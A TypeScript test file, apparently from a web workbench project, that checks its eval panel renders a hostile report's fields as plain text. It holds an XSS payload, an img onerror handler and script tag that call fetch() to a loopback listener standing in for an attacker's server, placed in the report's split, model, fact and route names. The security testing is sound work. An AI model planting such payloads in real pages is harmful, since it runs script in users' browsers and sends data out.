import { createServer as createHttpServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SqliteRunStore, StateGraph, type RunningServer } from '../../src/index.js';
import type { LaunchedBrowser } from '../support/launchBrowser.js';
import { openWorkbench } from '../support/openWorkbench.js';

/**
 * The eval panel shows an eval report file's text (its split, model name, fact and route names);
 * a report holding markup (one shared by someone else, or a model named by a careless user) must be
 * shown as text, never run. A loopback listener stands for the attacker's server.
 */
let listener: Server;
const requests: string[] = [];
let server: RunningServer;
let store: SqliteRunStore;
let browser: LaunchedBrowser;
let page: Page;
const dir = mkdtempSync(join(tmpdir(), 'sb-web-eval-hostile-'));

const payload = (port: number, tag: string) => `<img src=x onerror="window.__pwned='${tag}';fetch('http://127.0.0.1:${port}/${tag}')"><script>window.__pwned='script-${tag}'</script>`;

beforeAll(async () => {
  listener = createHttpServer((req, res) => (requests.push(req.url ?? ''), res.end()));
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const port = (listener.address() as AddressInfo).port;
  const ratio = { correct: 1, total: 2, percent: 50 };
  const evalFile = join(dir, 'latest.json');
  writeFileSync(
    evalFile,
    JSON.stringify({
      split: payload(port, 'split'),
      model: payload(port, 'model'),
      startedAt: '2026-12-01T10:00:00.000Z',
      durationMs: 10,
      messages: 2,
      route: ratio,
      entities: ratio,
      tasks: ratio,
      facts: { all: ratio, [payload(port, 'fact')]: ratio },
      confusion: { [payload(port, 'route')]: { [payload(port, 'route')]: 1 } },
      cases: [],
    }),
  );
  store = new SqliteRunStore({ file: join(dir, 'runs.db') });
  const graph = new StateGraph({ name: 'plain' }).addNode('a', () => 'ok').start('a');
  ({ server, browser, page } = await openWorkbench({ store, graphs: [graph], evalFile }));
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  await store?.close();
  await new Promise((resolve) => listener?.close(resolve));
  rmSync(dir, { recursive: true, force: true });
});

describe('the eval panel with a hostile report', () => {
  it('shows the split, model, fact and route names as text and runs none of them', async () => {
    await page.waitForSelector('#eval table.eval-figures');
    expect(await page.$$('#eval img, #eval script, #eval svg')).toHaveLength(0);
    const text = (await page.textContent('#eval')) ?? '';
    for (const tag of ['split', 'model', 'fact', 'route']) expect(text).toContain(`window.__pwned='${tag}'`);
    expect(await page.$$eval('#eval table.confusion th', (ths) => ths.map((th) => th.textContent))).toEqual(['', expect.stringContaining('<img src=x'), expect.stringContaining('<img src=x')]);
    expect(await page.textContent('#eval table.eval-figures')).toContain('50.0%');
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(requests).toEqual([]);
  }, 60_000);
});
